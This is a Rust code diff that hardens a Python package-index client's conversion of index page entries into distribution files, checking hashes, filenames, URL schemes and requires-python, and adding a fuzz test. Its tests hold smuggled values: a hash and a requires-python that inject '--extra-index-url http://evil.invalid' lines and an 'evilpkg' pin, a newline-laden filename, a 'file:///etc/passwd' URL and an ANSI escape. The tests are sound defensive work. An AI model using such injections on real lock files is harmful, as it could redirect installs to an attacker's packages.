@@ -5,12 +5,12 @@ use std::collections::BTreeMap;
 use std::str::FromStr;
 use std::sync::Arc;
 
-use pep440_rs::{Version, VersionSpecifiers};
+use pep440_rs::Version;
 use pep508_rs::PackageName;
 use serde::{Deserialize, Serialize};
 use url::Url;
 
-use super::{DistFile, DistKind};
+use super::{DistFile, DistKind, IndexError, validate};
 
 /// Prefer PEP 691 JSON, accept HTML from indexes that only speak PEP 503.
 pub const ACCEPT: &str = "application/vnd.pypi.simple.v1+json, \
@@ -39,6 +39,19 @@ pub struct PageFile {
 #[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
 pub struct SimplePage {
     pub files: Vec<PageFile>,
+}
+
+impl SimplePage {
+    /// Every hash on the page is a well-formed sha256. A cached page that is not was
+    /// changed on disk (dockgen does not store such pages): a corrupt entry.
+    pub fn hashes_well_formed(&self) -> bool {
+        self.files.iter().all(|file| {
+            [&file.sha256, &file.metadata_sha256]
+                .into_iter()
+                .flatten()
+                .all(|hash| validate::sha256(hash).is_ok())
+        })
+    }
 }
 
 /// Parses a page by its `Content-Type` (JSON when the server says so, HTML otherwise).
@@ -239,47 +252,109 @@ fn filename_of(url: &str) -> Option<String> {
     )
 }
 
-/// Turns page files into [`DistFile`]s of `project`, skipping (with a debug log) files
-/// whose names do not parse or name another project.
-pub fn to_dist_files(files: &[PageFile], project: &PackageName, index: &Arc<str>) -> Vec<DistFile> {
-    let mut out = Vec::with_capacity(files.len());
+/// Turns page files into [`DistFile`]s of `project`, checking every value a lock or
+/// an audit file could carry ([`super::validate`]).
+///
+/// Skipped, as pip and uv skip them (with a debug log): links that are not a
+/// distribution of `project` (another project's files, `README.txt`, a bad name),
+/// and files whose `requires-python` does not parse even after the repair metadata
+/// gets (`>=3.6.*` is `>=3.6`; uv repairs and skips the same way). An error ([`IndexError::Invalid`]): a distribution of
+/// `project` whose name is not a plain file name, whose sha256 (or its metadata
+/// sidecar's) is not 64 hex digits, whose URL is not http(s) (or `file:` when `local_source`:
+/// a directory or an index on the local disk), whose requires-python holds control characters, or a file listed twice
+/// with different hashes. The same file listed twice is kept once.
+pub fn to_dist_files(
+    files: &[PageFile],
+    project: &PackageName,
+    index: &Arc<str>,
+    local_source: bool,
+) -> Result<Vec<DistFile>, IndexError> {
+    let mut out: Vec<DistFile> = Vec::with_capacity(files.len());
+    // Position in `out` by file name: pages of nightly builds list tens of thousands.
+    let mut seen: std::collections::HashMap<&str, usize> = std::collections::HashMap::new();
     for file in files {
         let Some((kind, version)) = parse_filename(&file.filename, project) else {
             tracing::debug!(
-                "skipping `{}` on index `{index}`: not a distribution of `{project}`",
-                file.filename
+                "skipping {} on index `{index}`: not a distribution of `{project}`",
+                validate::quoted(&file.filename)
             );
             continue;
         };
-        let Ok(url) = Url::parse(&file.url) else {
-            tracing::debug!("skipping `{}` on index `{index}`: bad URL", file.filename);
-            continue;
+        let invalid = |message: String| IndexError::Invalid {
+            index: index.to_string(),
+            project: project.to_string(),
+            file: validate::shown(&file.filename),
+            message: message.into(),
         };
-        let requires_python = file.requires_python.as_deref().and_then(|spec| {
-            VersionSpecifiers::from_str(spec)
-                .inspect_err(|err| {
-                    tracing::debug!(
-                        "ignoring requires-python `{spec}` of `{}`: {err}",
-                        file.filename
-                    )
-                })
-                .ok()
-        });
+        validate::distribution_filename(&file.filename).map_err(invalid)?;
+        let url = Url::parse(&file.url).map_err(|err| {
+            invalid(format!(
+                "the URL {} does not parse: {err}",
+                validate::quoted(&file.url)
+            ))
+        })?;
+        match url.scheme() {
+            "http" | "https" => {}
+            "file" if local_source => {}
+            scheme => {
+                return Err(invalid(format!(
+                    "its URL has the scheme `{}`; an index may only link to http(s) files",
+                    validate::shown(scheme)
+                )));
+            }
+        }
+        let sha256 = file
+            .sha256
+            .as_deref()
+            .map(validate::sha256)
+            .transpose()
+            .map_err(invalid)?;
+        if let Some(hash) = &file.metadata_sha256 {
+            validate::sha256(hash)
+                .map_err(|message| invalid(format!("its metadata sidecar: {message}")))?;
+        }
+        let requires_python = match file.requires_python.as_deref() {
+            None => None,
+            Some(spec) => {
+                validate::no_control("requires-python", spec).map_err(invalid)?;
+                match super::metadata::parse_requires_python(spec) {
+                    Ok(spec) => Some(spec),
+                    Err(err) => {
+                        tracing::debug!(
+                            "skipping `{}` on index `{index}`: requires-python `{spec}` does not parse: {err}",
+                            file.filename
+                        );
+                        continue;
+                    }
+                }
+            }
+        };
+        if let Some(seen) = seen.get(file.filename.as_str()).map(|&at| &out[at]) {
+            if seen.sha256 != sha256 {
+                return Err(invalid(format!(
+                    "the page lists it twice, with the sha256 {} and {}",
+                    seen.sha256.as_deref().unwrap_or("(none)"),
+                    sha256.as_deref().unwrap_or("(none)")
+                )));
+            }
+            continue;
+        }
+        seen.insert(&file.filename, out.len());
         out.push(DistFile {
             filename: file.filename.clone(),
             kind,
             version,
             url,
-            sha256: file.sha256.clone(),
+            sha256,
             requires_python,
-            yanked: file.yanked.clone(),
+            yanked: file.yanked.as_deref().map(validate::escape_control),
             upload_time: file.upload_time,
             size: file.size,
             has_metadata_sidecar: file.has_metadata,
             index: index.clone(),
         });
     }
-    out
+    Ok(out)
 }
 
 // SEAM: replaced by index::filename on merge. A minimal wheel / sdist filename parser,
@@ -476,12 +551,13 @@ mod tests {
     #[test]
     fn html_base_tag() {
         let html = r#"<html><head><base href="https://files.example.com/pkgs/"></head>
-<a href="a-1.0.tar.gz#md5=00&sha256=ff">a</a>"#;
+<a href="a-1.0.tar.gz#md5=00&sha256=FF">a</a>"#;
         let page = parse_html(html, &page_url());
         assert_eq!(
             page.files[0].url,
             "https://files.example.com/pkgs/a-1.0.tar.gz"
         );
+        // Lower-cased here, checked as a sha256 when made a `DistFile`.
         assert_eq!(page.files[0].sha256.as_deref(), Some("ff"));
     }
 
@@ -529,6 +605,162 @@ mod tests {
             Some("6.0".to_owned())
         );
         assert_eq!(parse_filename("torchvision-0.20.0.tar.gz", &torch), None);
+    }
+
+    fn page_file(filename: &str) -> PageFile {
+        PageFile {
+            filename: filename.to_owned(),
+            url: format!("https://files.example/{filename}"),
+            sha256: Some("AB".repeat(32)),
+            requires_python: None,
+            yanked: None,
+            upload_time: None,
+            size: None,
+            has_metadata: false,
+            metadata_sha256: None,
+        }
+    }
+
+    fn dist_files(files: &[PageFile]) -> Result<Vec<DistFile>, String> {
+        let demo = PackageName::from_str("demo").unwrap();
+        to_dist_files(files, &demo, &Arc::from("idx"), false).map_err(|e| e.to_string())
+    }
+
+    #[test]
+    fn values_are_checked_where_files_are_made() {
+        let good = page_file("demo-1.0-py3-none-any.whl");
+        let files = dist_files(std::slice::from_ref(&good)).unwrap();
+        assert_eq!(files[0].sha256, Some("ab".repeat(32)));
+
+        let injected = PageFile {
+            sha256: Some(format!(
+                "{} \\\n--extra-index-url http://evil.invalid/simple\nevilpkg==6.6.6",
+                "a".repeat(64)
+            )),
+            ..good.clone()
+        };
+        let cases = [
+            injected,
+            PageFile {
+                sha256: Some("ff".into()),
+                ..good.clone()
+            },
+            PageFile {
+                filename: "demo-1.0-py3-none-any\nevil.whl".into(),
+                ..good.clone()
+            },
+            PageFile {
+                metadata_sha256: Some("not-a-hash".into()),
+                ..good.clone()
+            },
+            PageFile {
+                url: "file:///etc/passwd".into(),
+                ..good.clone()
+            },
+            PageFile {
+                requires_python: Some(">=3.8\n--index-url http://evil.invalid".into()),
+                ..good.clone()
+            },
+        ];
+        let messages: Vec<String> = cases
+            .iter()
+            .map(|case| dist_files(std::slice::from_ref(case)).unwrap_err())
+            .collect();
+        insta::assert_snapshot!(messages.join("\n"));
+    }
+
+    #[test]
+    fn skips_what_is_not_a_distribution_and_dedups() {
+        let good = page_file("demo-1.0-py3-none-any.whl");
+        let files = dist_files(&[
+            page_file("README file.txt"),
+            page_file("other-1.0-py3-none-any.whl"),
+            PageFile {
+                requires_python: Some(">=2.7,<<3".into()),
+                ..page_file("demo-0.9.tar.gz")
+            },
+            PageFile {
+                requires_python: Some(">=3.6.*".into()),
+                ..page_file("demo-0.8.tar.gz")
+            },
+            good.clone(),
+            good.clone(),
+            PageFile {
+                yanked: Some("broken\n\u{1b}[2J".into()),
+                ..page_file("demo-1.1.tar.gz")
+            },
+        ])
+        .unwrap();
+        let names: Vec<_> = files.iter().map(|f| f.filename.as_str()).collect();
+        assert_eq!(
+            names,
+            [
+                "demo-0.8.tar.gz",
+                "demo-1.0-py3-none-any.whl",
+                "demo-1.1.tar.gz"
+            ]
+        );
+        assert_eq!(
+            files[0].requires_python.as_ref().map(ToString::to_string),
+            Some(">=3.6".to_owned())
+        );
+        assert_eq!(files[2].yanked.as_deref(), Some("broken\\n\\u{1b}[2J"));
+
+        let twice = dist_files(&[
+            good.clone(),
+            PageFile {
+                sha256: Some("cd".repeat(32)),
+                ..good
+            },
+        ])
+        .unwrap_err();
+        assert!(twice.contains("lists it twice"), "{twice}");
+    }
+
+    /// Seeded mutations of a JSON and an HTML page: parsing never panics, and every
+    /// file that comes out has a plain name and a well-formed hash.
+    #[test]
+    fn mutated_pages_never_yield_unchecked_values() {
+        let json = br#"{"meta":{"api-version":"1.1"},"files":[{"filename":"demo-1.0-py3-none-any.whl","url":"../../f/demo-1.0-py3-none-any.whl","hashes":{"sha256":"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"},"requires-python":">=3.8","core-metadata":{"sha256":"bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"}}]}"#;
+        let html = br#"<a href="demo-1.0.tar.gz#sha256=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" data-requires-python="&gt;=3.8">demo-1.0.tar.gz</a>"#;
+        let demo = PackageName::from_str("demo").unwrap();
+        let index: Arc<str> = Arc::from("idx");
+        let url = Url::parse("https://idx.example/simple/demo/").unwrap();
+        let alphabet = b"\n\r\t \\/\"'<>&#%=:,;{}[]0aA-_.+!\x00\x1b\xff";
+        let mut rng = fastrand::Rng::with_seed(9);
+        for round in 0..20_000 {
+            let (content_type, seed) = match round % 2 {
+                0 => (Some(JSON_CONTENT_TYPE), &json[..]),
+                _ => (None, &html[..]),
+            };
+            let mut body = seed.to_vec();
+            for _ in 0..rng.usize(1..4) {
+                let at = rng.usize(..body.len());
+                match rng.u8(..3) {
+                    0 => body[at] = alphabet[rng.usize(..alphabet.len())],
+                    1 => body.insert(at, alphabet[rng.usize(..alphabet.len())]),
+                    _ => {
+                        body.remove(at);
+                    }
+                }
+            }
+            let Ok(page) = parse_page(content_type, &body, &url) else {
+                continue;
+            };
+            let Ok(files) = to_dist_files(&page.files, &demo, &index, false) else {
+                continue;
+            };
+            for file in files {
+                assert!(
+                    validate::distribution_filename(&file.filename).is_ok(),
+                    "{file:?}"
+                );
+                if let Some(hash) = &file.sha256 {
+                    assert_eq!(validate::sha256(hash).as_ref(), Ok(hash), "{file:?}");
+                }
+                assert!(matches!(file.url.scheme(), "http" | "https"), "{file:?}");
+            }
+        }
     }
 
     #[test]
